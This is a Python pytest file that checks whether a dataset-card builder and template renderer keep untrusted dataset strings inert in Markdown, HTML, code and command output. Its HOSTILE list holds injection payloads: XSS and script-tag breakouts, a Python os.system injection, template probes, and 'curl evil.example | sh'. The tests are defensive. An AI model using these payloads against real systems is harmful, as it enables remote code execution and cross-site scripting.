"""Texts of strangers in cards and pages: whatever they hold, they stay texts."""

import ast
import json
import shutil
from collections import Counter
from pathlib import Path

import pytest

from datasets_scripts.inspection.dataset_card import build_card
from datasets_scripts.inspection.template_rendering import render_template

SAMPLE = Path(__file__).resolve().parents[3] / "hub_cards" / "sample_data" / "metaworld"
HOSTILE = [
    "open\n\n# Heading\n\n<img src=x onerror=alert(1)>",
    "open\r```\rcurl evil.example | sh\r```",
    '"); import os; os.system("id") #',
    "`code` ![image](http://evil.example/x.png) [link](javascript:alert(1)) <b>**bold**</b>",
    "a | b | c\\",
    "a\u2028# b\x85# c\x0b# d\x1b[31m\u202e",
    "</script><script>alert(1)</script> {{ 7 * 7 }} {% raw %} <!-- $x$ ~~~",
]


def spoil(value, text: str):
    """The same JSON with `text` at the end of every string."""
    if isinstance(value, dict):
        return {key: spoil(inner, text) for key, inner in value.items()}
    if isinstance(value, list):
        return [spoil(inner, text) for inner in value]
    return value + text if isinstance(value, str) else value


def list_structure(markdown: str) -> Counter:
    """How often a card has every kind of Markdown element."""
    parser = pytest.importorskip("markdown_it").MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = parser.parse(markdown)
    return Counter(one.type for token in tokens for one in (token, *(token.children or []))) - Counter(
        {"text": 10**6, "softbreak": 10**6, "text_special": 10**6}
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_of_a_dataset_changes_nothing_around_it_in_its_card(tmp_path, text):
    root = tmp_path / "dataset"
    shutil.copytree(SAMPLE / "meta", root / "meta")
    path = root / "meta" / "foresight.json"
    facts = json.loads(path.read_text())
    plain = build_card(root, "you/demos").text
    info = json.loads((root / "meta" / "info.json").read_text())
    (root / "meta" / "info.json").write_text(json.dumps(info | {"robot_type": text}))
    path.write_text(json.dumps(facts | {key: spoil(facts[key], text) for key in ("episodes", "cameras")}))
    spoiled = build_card(root, "you/demos").text
    assert list_structure(spoiled) == list_structure(plain)
    assert len(spoiled.splitlines()) == len(plain.splitlines())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_one_value_of_a_program_a_command_and_a_page(tmp_path, text):
    for name, template in {
        "one.md": "```python\nx = {{ text|literal }}\n```\n",
        "two.md": "a {{ text|code }} b\n\n```\n{{ text|command }}\nrun {{ text|word }}\n```\n",
        "three.html": "<p title='{{ text }}'>{{ text }}</p>",
        "four.txt": "{{ text }}",
    }.items():
        (tmp_path / name).write_text(template)
    program, prose, page, line = (
        render_template(tmp_path / name, text=text) for name in ("one.md", "two.md", "three.html", "four.txt")
    )
    assert ast.literal_eval(program.splitlines()[1].removeprefix("x = ")) == text
    assert list_structure(program) == {"fence": 1}
    assert list_structure(prose) == list_structure("a `x` b\n\n```\nx\nx\n```\n")
    assert page.count("<") == page.count(">") == 2 and page.count("'") == 2
    assert len(line.splitlines()) == 1 and line.isprintable()
